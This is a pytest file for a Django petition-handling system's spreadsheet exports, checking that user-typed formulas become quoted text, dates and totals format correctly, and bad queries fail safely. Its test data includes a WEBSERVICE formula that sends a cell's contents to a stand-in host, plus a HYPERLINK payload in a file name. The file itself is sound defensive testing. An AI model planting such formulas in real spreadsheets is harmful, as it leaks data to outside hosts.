"""Exports: what a petitioner typed is text in the spreadsheet, never a formula."""

import csv
import io
import uuid

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from cases.models import Case
from cases.spreadsheet import safe_cell
from oversight.exports import csv_response, xlsx_response

FORMULA = '=WEBSERVICE("http://x.example/?"&B5)'


@pytest.mark.parametrize("text", [FORMULA, "+86 139", "-1+2", "@SUM(A1)", "\tx", "\r=1+1"])
def test_text_that_a_spreadsheet_would_run_is_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [3, -2, 0, 50.0, -12.5])
def test_numbers_stay_numbers(value):
    assert safe_cell(value) == value


def test_ordinary_text_and_empty_cells_are_unchanged():
    assert (safe_cell("阳光花园垃圾站"), safe_cell("2026-03-02 09:00"), safe_cell(None)) == (
        "阳光花园垃圾站", "2026-03-02 09:00", "")


def _sheet(response):
    return load_workbook(io.BytesIO(response.content)).active


def _csv(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_both_writers_write_a_formula_as_text_and_a_number_as_a_number():
    headers, rows = ["=标题", "数量"], [[FORMULA, -3], ["@cmd", 2.5]]
    sheet = _sheet(xlsx_response("t", "=t", headers, rows, note="+note"))
    assert [cell.value for cell in sheet[3]] == ["'=标题", "数量"]
    assert [(cell.value, cell.data_type) for cell in sheet[4]] == [
        ("'" + FORMULA, "s"), (-3, "n")]
    assert sheet["A5"].value == "'@cmd" and sheet["B5"].value == 2.5
    assert (sheet["A1"].value, sheet["A2"].value) == ("'=t", "'+note")
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert _csv(csv_response("t", headers, rows)) == [
        ["'=标题", "数量"], ["'" + FORMULA, "-3"], ["'@cmd", "2.5"]]


def test_an_anonymous_summary_with_a_formula_is_plain_text_in_the_office_exports(client,
                                                                                  world):
    client.post(reverse("intake:public_submit"), {
        "submission_token": str(uuid.uuid4()), "name": "匿名", "phone": "13622223333",
        "summary": FORMULA, "content": "内容"})
    case = Case.objects.get()
    client.force_login(world.supervisor)
    url = reverse("oversight:drilldown") + "?measure=received&export="
    sheet = _sheet(client.get(url + "xlsx"))
    row = next(row for row in sheet.iter_rows(values_only=True) if row[0] == case.number)
    assert "'" + FORMULA in row
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    lines = _csv(client.get(url + "csv"))
    assert "'" + FORMULA in next(line for line in lines if line[0] == case.number)


def test_the_access_log_export_writes_an_uploader_s_file_name_as_text(client, world):
    from cases.models import AccessKind, PersonalDataAccess

    row = PersonalDataAccess.objects.create(username="clerk", kind=AccessKind.ATTACHMENT,
                                            case_number="XF-2026-000001",
                                            detail='=HYPERLINK("http://x.example")')
    client.force_login(world.admin)
    response = client.post(reverse("admin:cases_personaldataaccess_changelist"),
                           {"action": "export_csv", "_selected_action": [row.pk]})
    lines = _csv(response)
    assert lines[1][1:5] == ["clerk", "attachment", "XF-2026-000001",
                             "'" + '=HYPERLINK("http://x.example")']


# ---------------------------------------------------------------- cells that behave
def _local_naive(moment):
    from django.utils import timezone

    return timezone.localtime(moment).replace(tzinfo=None, microsecond=0)


def _row_of(sheet, first_value):
    return next(row for row in sheet.iter_rows(min_row=4) if row[0].value == first_value)


def test_moments_are_excel_dates_in_local_time_not_text(client, world):
    from tests.factories import register

    case = register(world)
    client.force_login(world.supervisor)
    sheet = _sheet(client.get(reverse("oversight:drilldown") + "?measure=received&export=xlsx"))
    received = _row_of(sheet, case.number)[1]
    assert received.is_date and received.number_format == "yyyy-mm-dd hh:mm"
    # Shanghai's wall clock, without a zone: Excel has none.
    assert received.value == _local_naive(case.received_at)
    assert received.value.tzinfo is None
    lines = _csv(client.get(reverse("oversight:drilldown") + "?measure=received&export=csv"))
    line = next(line for line in lines if line[0] == case.number)
    assert line[1] == _local_naive(case.received_at).strftime("%Y-%m-%d %H:%M")


def test_the_order_list_writes_its_times_as_dates_and_an_empty_time_as_an_empty_cell(
        client, world):
    from datetime import timedelta

    from django.utils import timezone

    from cases.models import State
    from oversight.models import SupervisionOrder
    from tests.factories import drive_to

    case = drive_to(world, State.IN_HANDLING)
    order = SupervisionOrder.objects.create(case=case, level=1,
                                            answer_due_at=timezone.now() + timedelta(days=1))
    client.force_login(world.supervisor)
    sheet = _sheet(client.get(reverse("oversight:orders") + "?status=open&export=xlsx"))
    row = _row_of(sheet, case.number)
    opened, due, answered = row[4], row[5], row[6]
    assert opened.is_date and due.is_date and due.value == _local_naive(order.answer_due_at)
    assert answered.value is None


def test_the_totals_row_is_bold_and_outside_the_autofilter(client, world):
    from oversight.figures import refresh_figures
    from tests.factories import register

    register(world)
    refresh_figures()
    client.force_login(world.supervisor)
    sheet = _sheet(client.get("/oversight/?by=category&export=xlsx"))
    assert sheet.max_row == 5  # title, note, headers, one category, totals
    last = sheet[sheet.max_row]
    assert last[0].value == "合计" and all(cell.font.bold for cell in last)
    assert not any(cell.font.bold for cell in sheet[sheet.max_row - 1])
    columns = sheet.max_column
    from openpyxl.utils import get_column_letter

    assert sheet.auto_filter.ref == f"A3:{get_column_letter(columns)}{sheet.max_row - 1}"
    assert sheet.freeze_panes == "A4"


def test_the_complaints_table_by_unit_ends_with_its_totals_in_bold(client, world):
    client.force_login(world.supervisor)
    sheet = _sheet(client.get("/oversight/complaints/?table=unit&export=xlsx"))
    last = sheet[sheet.max_row]
    assert last[0].value == "合计" and last[0].font.bold


EVERY_EXPORT = [
    "/oversight/?export=xlsx", "/oversight/?by=month&export=xlsx",
    "/oversight/cases/?measure=received&export=xlsx",
    "/oversight/cases/?measure=overdue&export=xlsx",
    "/oversight/supervision/?status=all&export=xlsx",
    "/oversight/hot/?export=xlsx&table=categories", "/oversight/hot/?export=xlsx&table=places",
    "/oversight/hot/?export=xlsx&table=phrases", "/oversight/hot/?export=xlsx&table=repeaters",
    "/oversight/complaints/?export=xlsx&table=unit",
    "/oversight/complaints/?export=xlsx&table=person",
    "/oversight/complaints/?export=xlsx&table=repeated",
    "/oversight/access-log/?export=xlsx",
]


@pytest.mark.parametrize("url", EVERY_EXPORT)
def test_every_sheet_has_a_filter_on_its_headers_and_frozen_panes_below_them(client, world,
                                                                               url):
    from tests.factories import register

    register(world)
    client.force_login(world.admin)
    response = client.get(url)
    assert response.status_code == 200, url
    sheet = _sheet(response)
    assert sheet.auto_filter.ref and sheet.auto_filter.ref.startswith("A3:"), url
    assert sheet.freeze_panes == "A4", url
    assert all(cell.font.bold for cell in sheet[3] if cell.value), url
    assert sheet["A1"].font.bold, url


def test_the_repeat_petitioners_sheet_names_the_days_it_counted_not_the_week(
        client, world, travel, settings):
    """The page's weeks are seven days; the repeat petitioners are counted over
    HOT_REPEAT_DAYS (90). The sheet was labelled with the week while its rows came from
    the 90 days."""
    from datetime import date, datetime, timedelta

    from django.utils import timezone

    from tests.factories import register

    settings.HOT_REPEAT_DAYS, settings.HOT_REPEAT_MIN_CASES = 90, 3
    travel.to(timezone.make_aware(datetime(2026, 4, 1, 10, 0)))  # two months before
    for _ in range(3):
        register(world)
    travel.to(timezone.make_aware(datetime(2026, 6, 1, 10, 0)))
    client.force_login(world.supervisor)
    response = client.get("/oversight/hot/?export=xlsx&table=repeaters")
    sheet = _sheet(response)
    person = _row_of(sheet, "刘建国")
    assert person[2].value == 3 and person[3].is_date
    start, end = date(2026, 6, 1) - timedelta(days=90), date(2026, 6, 1)
    note = sheet["A2"].value
    assert f"{start:%Y-%m-%d} — {end:%Y-%m-%d}" in note and "90" in note
    assert "2026-05-26" not in note  # the week's first day
    assert f"{start:%Y%m%d}-{end:%Y%m%d}" in response["Content-Disposition"]
    # The rows themselves come from that window: a case of the day before it is not one.
    from oversight.hot import repeat_petitioners, repeat_window

    assert repeat_window(end) == (start, end)
    assert repeat_petitioners(end)[0]["cases"] == 3
    # The page's link to the person's cases asks for the same days.
    page = client.get("/oversight/hot/").content.decode()
    assert f"start={start:%Y-%m-%d}&amp;end={end:%Y-%m-%d}" in page
    # The week's tables still name the week.
    weekly = _sheet(client.get("/oversight/hot/?export=xlsx&table=places"))
    assert "2026-05-26 — 2026-06-01" in weekly["A2"].value


def test_a_case_list_names_its_period_and_a_live_list_its_moment(client, world):
    client.force_login(world.supervisor)
    sheet = _sheet(client.get("/oversight/cases/?start=2026-01-01&end=2026-03-31"
                              "&measure=received&export=xlsx"))
    assert "2026-01-01 至 2026-03-31" in sheet["A2"].value
    sheet = _sheet(client.get("/oversight/cases/?measure=overdue&export=xlsx"))
    assert "实时" in sheet["A2"].value


@pytest.mark.parametrize("query", ["start=2026-13-45&export=xlsx", "by=%00&export=xlsx",
                                   "petitioner=abc&export=csv", "open_tier=x&export=xlsx",
                                   "measure=<b>&export=xlsx"])
def test_bad_input_in_an_export_query_is_not_a_server_error(client, world, query):
    client.force_login(world.supervisor)
    # A NUL is refused before any view (400); the rest fall back to the defaults.
    assert client.get("/oversight/cases/?" + query).status_code in (200, 400)
    assert client.get("/oversight/?" + query).status_code in (200, 400)
